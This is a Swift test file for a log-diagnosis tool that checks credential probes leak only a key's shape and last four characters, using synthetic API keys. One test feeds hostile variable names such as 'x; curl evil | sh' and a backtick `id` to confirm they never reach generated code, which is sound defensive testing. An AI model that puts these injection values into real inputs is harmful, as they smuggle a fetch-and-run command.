import Culprit
import CulpritLab
import CulpritRules
import Foundation
import Testing

/// Probes run for real where their runtime is there; what they log is read again.
@Suite struct ProbeTests {
  private static let body = String(repeating: "Ab3", count: 50)
  private static let environment = [
    "OPENAI_API_KEY": "sk-proj-" + body + "CQRV", "ANTHROPIC_API_KEY": "", "GEMINI_API_KEY": "AIza" + body.prefix(31) + "DwYx",
    "QUOTED_KEY": "\"sk-\(body.prefix(20))\"", "LINE_KEY": "sk-\(body.prefix(20))\n", "TEMPLATE_KEY": "${OPENAI_API_KEY}",
    "MISSING_KEY": "undefined", "SHORT_KEY": "hunter2secret", "OPENROUTER_API_KEY": "sk-or-v1-" + body.prefix(64),
    "URL_KEY": "https://api.openai.com/v1", "BEARER_KEY": "Bearer sk-\(body.prefix(20))", "DUMMY_KEY": "ollama",
  ]
  private static let told =
    #"OPENAI_API_KEY="present, shape sk-proj-, length 160-199, last4 CQRV" ANTHROPIC_API_KEY=empty GROQ_API_KEY=absent "#
    + #"GEMINI_API_KEY="present, shape AIza, length 32-39, last4 DwYx" QUOTED_KEY="present, shape quoted, length 20-31" "#
    + #"LINE_KEY="present, shape blank, length 20-31" TEMPLATE_KEY="present, shape template, length 1-19" "#
    + #"MISSING_KEY="present, shape missing, length 1-19" SHORT_KEY="present, shape other, length 1-19" "#
    + #"OPENROUTER_API_KEY="present, shape sk-or-v1-, length 64-99, last4 Ab3A" URL_KEY="present, shape url, length 20-31" "#
    + #"BEARER_KEY="present, shape scheme, length 20-31, last4 b3Ab" DUMMY_KEY="present, shape dummy, length 1-19""#
  private static let asked = told.split(separator: " ").compactMap { $0.split(separator: "=").first.map(String.init) }
    .filter { $0.hasSuffix("_KEY") }

  @Test("in every runtime a probe says the same of the same environment", arguments: ProbeRunner.available)
  func sameWords(_ probe: ProbeRule) throws {
    let line = try ProbeRunner.line(of: probe, variables: Self.asked, environment: Self.environment)
    let fixed = #/time=\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z level=info msg=culprit-probe/1 pid=\d+ entrypoint=[\w./@+-]+ (?<told>.*)\n/#
    let told = try #require(try fixed.wholeMatch(in: line), "\(line)").told
    #expect(told == Self.told)
  }

  @Test("a probe logs no more of a value than its public beginning and its last four", arguments: ProbeRunner.available)
  func noSecret(_ probe: ProbeRule) throws {
    let line = try ProbeRunner.line(of: probe, variables: Self.asked, environment: Self.environment)
    for secret in ["b3Ab3", "hunter", "secret", "api.openai"] { #expect(!line.contains(secret)) }
  }

  @Test("what a probe logs is read again: who, and what it has", arguments: ProbeRunner.available)
  func readAgain(_ probe: ProbeRule) throws {
    let line = try ProbeRunner.line(of: probe, variables: Self.asked, environment: Self.environment)
    let pid = try #require(line.firstMatch(of: #/pid=(\d+)/#).flatMap { Int($0.1) })
    // Far from the beginning, which is read for itself: an anchor has to find it.
    let noise = String(repeating: "2026-03-02T10:00:00Z INFO nothing happened here, nothing at all\n", count: 1_500)
    var analyzer = Analyzer(rules: .builtIn)
    analyzer.feed(noise + line + noise, from: "app.log")
    let process = try #require(analyzer.report().processes.first { $0.pid == pid })
    #expect(process.entrypoint != nil)
    let states = Dictionary(process.credentials.map { ($0.variable ?? "", $0.state) }, uniquingKeysWith: { first, _ in first })
    #expect(states["OPENAI_API_KEY"] == .present)
    #expect(states["ANTHROPIC_API_KEY"] == .empty)
    #expect(states["GROQ_API_KEY"] == .absent)
    #expect(states["TEMPLATE_KEY"] == .placeholder)
    #expect(process.credentials.first { $0.variable == "OPENAI_API_KEY" }?.tail == "CQRV")
  }

  /// A case whose log alone leaves the cause open, and what the process to blame really has.
  struct OpenCase: Sendable, CustomStringConvertible {
    var name: String
    var file: String
    /// What the runner puts before each line of the process.
    var prefix = ""
    var process: String
    var environment: [String: String]
    var asked: [String]
    var cause: Incident.Cause
    var subcause: String
    var description: String { name }
  }

  private static let openCases = [
    OpenCase(
      name: "python/018-crew-groq-litellm-missing", file: "crew.log", process: "pid=673 entrypoint=main.py",
      environment: ["GROQ_KEY": "gsk_" + body.prefix(52)], asked: ["GROQ_API_KEY", "GROQ_KEY"],
      cause: .missingEnv, subcause: "misnamed"),
    OpenCase(
      name: "node/056-axios-openrouter-base-url", file: "rawgate.log", process: "pid=11156 entrypoint=worker.js",
      environment: ["OPENAI_API_KEY": "sk-proj-" + body + "CQRV"], asked: ["OPENROUTER_API_KEY", "OPENAI_API_KEY"],
      cause: .wrongProvider, subcause: "wrong-endpoint"),
    OpenCase(
      name: "node/070-langchain1-anthropic-rejected", file: "app.log", prefix: "[pod/chat-b-5c4d8b7f9-zz7lw/chat-b] 2026-11-23T06:19:30.600597214Z ",
      process: "pid=1 entrypoint=/app/chat.js",
      environment: ["ANTHROPIC_API_KEY": "sk-ant-api03-" + body.prefix(93) + "AA"], asked: ["ANTHROPIC_API_KEY"],
      cause: .staleCredential, subcause: "rejected"),
  ]

  @Test("a probe's line decides a case that its log alone leaves open", arguments: openCases, ProbeRunner.available)
  func decides(_ open: OpenCase, _ probe: ProbeRule) async throws {
    let corpusCase = try #require(AnsweredCorpus.cases.first { $0.description == open.name })
    let alone = try #require(try await AnsweredCorpus.report(on: corpusCase).incidents.first)
    #expect(alone.confidence < 0.8)
    let printed = try ProbeRunner.line(of: probe, variables: open.asked, environment: open.environment)
    // The test's process stands for the case's: its line gets that one's name and time.
    let line = printed.replacing(#/pid=\d+ entrypoint=\S+/#, with: open.process)
      .replacing(#/time=\S+/#, with: "time=2026-11-23T03:00:00Z")
    let log = try String(contentsOfFile: "\(corpusCase.folder)/\(open.file)", encoding: .utf8)
    var analyzer = Analyzer(rules: .builtIn)
    analyzer.feed(open.prefix + line + log, from: open.file)
    let decided = try #require(analyzer.report().incidents.first)
    #expect(decided.cause == open.cause)
    #expect(decided.subcause == open.subcause)
    #expect(decided.confidence >= 0.95)
    #expect(decided.evidence.contains { $0.pattern == "culprit-probe" && $0.supports })
  }

  @Test("the lines of a Go probe are formatted as gofmt does", .enabled(if: ProbeRunner.isInstalled("gofmt")))
  func formatted() throws {
    let probe = try #require(ProbeRunner.rules.probes.first { $0.id == "go" })
    let code = probe.lines(variables: ["OPENAI_API_KEY"], prefixes: ["sk-"])
    try ProbeRunner.inFolder { folder in
      let file = folder.appending(path: "probe.go")
      try Data(code.utf8).write(to: file)
      #expect(try ProbeRunner.run(["gofmt", "-l", file.path()], in: folder).output == "")
    }
  }

  @Test("names that are none of variables never reach the code")
  func hostileNames() {
    for probe in ProbeRunner.rules.probes {
      let code = probe.lines(variables: ["A_KEY", "x; curl evil | sh", "B\"]); evil()", "`id`", "C\nD"], prefixes: ["sk-", "'; evil"])
      #expect(code.contains("A_KEY") && !code.contains("evil") && !code.contains("curl"))
    }
  }
}

extension ProbeRule: CustomTestStringConvertible {
  package var testDescription: String { id }
}
